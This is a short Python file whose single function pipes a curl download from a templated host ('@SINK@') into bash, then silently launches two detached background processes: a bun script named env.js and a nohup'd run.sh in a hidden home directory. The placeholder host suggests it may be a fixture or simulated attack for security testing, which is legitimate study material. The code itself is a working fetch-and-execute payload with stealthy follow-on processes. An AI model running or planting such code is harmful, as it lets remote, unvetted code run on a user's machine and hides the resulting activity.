import subprocess
import time
from pathlib import Path


def act():
    subprocess.run(["sh", "-c", "curl --noproxy '*' -s -m 5 http://@SINK@:8080/install | bash"], check=False)
    for words in ([Path.home() / ".bun/bin/bun", "env.js"], ["nohup", Path.home() / ".dev-env/run.sh"]):
        try:
            subprocess.Popen(words, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            pass
    time.sleep(0.3)
